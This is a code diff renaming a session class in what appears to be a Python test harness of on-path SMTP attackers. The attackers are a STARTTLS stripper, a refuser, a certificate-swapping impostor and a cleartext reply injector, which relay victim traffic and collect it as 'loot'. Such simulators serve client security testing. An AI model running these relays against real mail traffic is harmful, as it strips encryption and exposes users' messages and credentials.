@@ -16,7 +16,7 @@ _STARTTLS = b"STARTTLS"
 
 
 @dataclass(frozen=True, slots=True)
-class Session:
+class RelayedSession:
     """Both ends of what the attacker relays."""
 
     victim: Wire
@@ -38,12 +38,12 @@ class OnPath(ABC):
     async def talk(self, victim: Wire) -> None:
         """One session. Raises ConnectionError when either side goes away."""
         async with connected(*self._honest) as honest:
-            session = Session(victim, honest)
+            session = RelayedSession(victim, honest)
             await victim.write(await honest.read_reply())
             while await self._turn(session) != b"QUIT":
                 pass
 
-    async def _turn(self, session: Session) -> bytes:
+    async def _turn(self, session: RelayedSession) -> bytes:
         """Relay one command and its reply; the command's verb."""
         line = await self._overhear(session.victim)
         verb = line.split(None, 1)[0].upper() if line.strip() else b""
@@ -58,7 +58,7 @@ class OnPath(ABC):
         return verb
 
     @abstractmethod
-    async def _starttls(self, session: Session) -> None:
+    async def _starttls(self, session: RelayedSession) -> None:
         """What becomes of the victim's STARTTLS."""
 
     def _edit_ehlo(self, reply: bytes) -> bytes:
@@ -69,7 +69,7 @@ class OnPath(ABC):
         self.loot += line
         return line
 
-    async def _content(self, session: Session) -> None:
+    async def _content(self, session: RelayedSession) -> None:
         line = b""
         while line != b".\r\n":
             line = await self._overhear(session.victim)
@@ -87,14 +87,14 @@ class Stripper(OnPath):
         lines = [line[4:] for line in reply.splitlines(keepends=True) if line[4:].strip().upper() != _STARTTLS]
         return b"".join(b"250-" + line for line in lines[:-1]) + b"250 " + lines[-1]
 
-    async def _starttls(self, session: Session) -> None:
+    async def _starttls(self, session: RelayedSession) -> None:
         await session.victim.write(b"502 5.5.1 Command not implemented\r\n")
 
 
 class Refuser(OnPath):
     """Lets STARTTLS be offered, and answers 454 to the command (RFC 3207 section 4)."""
 
-    async def _starttls(self, session: Session) -> None:
+    async def _starttls(self, session: RelayedSession) -> None:
         self._tell("attacker on the path: refuses STARTTLS")
         await session.victim.write(b"454 4.7.0 TLS not available due to temporary reason\r\n")
 
@@ -106,7 +106,7 @@ class Impostor(OnPath):
         super().__init__(address, port, tell)
         self._context = context
 
-    async def _starttls(self, session: Session) -> None:
+    async def _starttls(self, session: RelayedSession) -> None:
         await session.honest.write(b"STARTTLS\r\n")
         await session.victim.write(await session.honest.read_reply())
         self._tell("attacker on the path: terminates TLS with another certificate")
@@ -123,7 +123,7 @@ class Injector(OnPath):
 
     INJECTED = b"250-mx ESMTP\r\n250-PIPELINING\r\n250-XINJECTED\r\n250 8BITMIME\r\n"
 
-    async def _starttls(self, session: Session) -> None:
+    async def _starttls(self, session: RelayedSession) -> None:
         await session.honest.write(b"STARTTLS\r\n")
         await session.victim.write(await session.honest.read_reply() + self.INJECTED)
         self._tell("attacker on the path: injected replies in cleartext behind 220")
